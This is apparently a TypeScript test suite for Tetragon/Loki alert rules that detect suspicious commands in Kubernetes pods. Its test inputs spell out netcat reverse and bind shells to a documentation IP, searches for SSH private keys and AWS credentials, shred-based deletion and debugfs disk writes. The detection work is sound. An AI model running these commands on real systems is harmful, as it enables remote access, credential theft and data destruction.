import { SuspiciousCommandDetection } from '../../lib/detections/suspicious-command-detection';
import { newChart, synth } from '../support/synth';
import { execEvent, logqlErrors, logRuleCounts } from './_support';

const chart = newChart();
const detection = new SuspiciousCommandDetection(chart, 'Cmd');
const rule = (alert: string) => detection.lokiRules.find((r) => r.alert === alert)!.expr;
const counts = (alert: string, binary: string, options: Parameters<typeof execEvent>[1] = {}) =>
  logRuleCounts(rule(alert), execEvent(binary, { namespace: 'shop', ...options }));

describe('SuspiciousCommandDetection', () => {
  test('six alerts, no policy, all parse', () => {
    expect(synth(chart)).toStrictEqual([]);
    expect(detection.lokiRules.map((r) => r.alert)).toStrictEqual([
      'TetragonPrivateKeySearch',
      'TetragonAwsCredentialSearch',
      'TetragonBulkDataRemoval',
      'TetragonNetcatRemoteExecution',
      'TetragonSystemUserInteractive',
      'TetragonDebugfsInContainer',
    ]);
    for (const r of detection.lokiRules) expect(logqlErrors(r.expr)).toStrictEqual([]);
  });

  test('key and credential searches: find for id_rsa, grep -r for private keys, grep for aws keys', () => {
    expect(counts('TetragonPrivateKeySearch', '/usr/bin/find', { arguments: '/ -name id_rsa' })).toBe(true);
    expect(counts('TetragonPrivateKeySearch', '/bin/grep', { arguments: '-rl "BEGIN OPENSSH PRIVATE KEY" /home' })).toBe(true);
    expect(counts('TetragonAwsCredentialSearch', '/usr/bin/grep', { arguments: '-ri aws_secret_access_key /' })).toBe(true);
    expect(counts('TetragonAwsCredentialSearch', '/usr/bin/find', { arguments: '/ -path *.aws/credentials' })).toBe(true);
    expect(counts('TetragonPrivateKeySearch', '/usr/bin/grep', { arguments: '-i error /var/log/app.log' })).toBe(false);
    expect(counts('TetragonPrivateKeySearch', '/usr/bin/cat', { arguments: '/root/.ssh/id_rsa' })).toBe(false);
    expect(counts('TetragonAwsCredentialSearch', '/usr/bin/find', { arguments: '/app -name *.py' })).toBe(false);
  });

  test('netcat with -e or --sh-exec in a pod, not a plain connection or netcat on the node', () => {
    expect(counts('TetragonNetcatRemoteExecution', '/usr/bin/nc', { arguments: '198.51.100.7 4444 -e /bin/sh' })).toBe(true);
    expect(counts('TetragonNetcatRemoteExecution', '/usr/bin/ncat', { arguments: '--sh-exec "/bin/bash -i" 198.51.100.7 443' })).toBe(true);
    expect(counts('TetragonNetcatRemoteExecution', '/bin/nc.traditional', { arguments: '-lvnp 4444 -e /bin/bash' })).toBe(true);
    expect(counts('TetragonNetcatRemoteExecution', '/usr/bin/nc', { arguments: '-zv db 5432' })).toBe(false);
    expect(logRuleCounts(rule('TetragonNetcatRemoteExecution'), execEvent('/usr/bin/nc', { arguments: '-e /bin/sh 10.0.0.1 1' }))).toBe(
      false,
    );
    expect(counts('TetragonNetcatRemoteExecution', '/usr/bin/ncdu', { arguments: '-e /' })).toBe(false);
  });

  test('system accounts running shells, wiping tools and debugfs', () => {
    expect(counts('TetragonSystemUserInteractive', '/bin/sh', { uid: 33, parent: '/usr/sbin/apache2' })).toBe(true);
    expect(counts('TetragonSystemUserInteractive', '/usr/bin/bash', { uid: 65534 })).toBe(true);
    expect(counts('TetragonSystemUserInteractive', '/usr/bin/bash', { uid: 0 })).toBe(false);
    expect(counts('TetragonSystemUserInteractive', '/usr/bin/bash', { uid: 1000 })).toBe(false);
    expect(counts('TetragonSystemUserInteractive', '/usr/bin/ssh', { uid: 33 })).toBe(false);
    expect(counts('TetragonBulkDataRemoval', '/usr/bin/shred', { arguments: '-u /data/db.sqlite' })).toBe(true);
    expect(counts('TetragonBulkDataRemoval', '/usr/bin/rm', { arguments: '-f /tmp/x' })).toBe(false);
    expect(counts('TetragonDebugfsInContainer', '/sbin/debugfs', { arguments: '-w /dev/sda1' })).toBe(true);
    expect(logRuleCounts(rule('TetragonDebugfsInContainer'), execEvent('/sbin/debugfs', { arguments: '-R stats /dev/sda1' }))).toBe(false);
  });

  test('exclusions apply to every alert', () => {
    const scoped = new SuspiciousCommandDetection(newChart(), 'S', {
      excludeNamespaces: ['backup'],
      excludeBinaries: ['/usr/bin/gitleaks'],
    });
    for (const r of scoped.lokiRules) expect(r.expr).toContain('namespace!~"backup"');
    expect(logRuleCounts(scoped.lokiRules[0].expr, execEvent('/usr/bin/find', { namespace: 'backup', arguments: '/ -name id_rsa' }))).toBe(
      false,
    );
  });
});
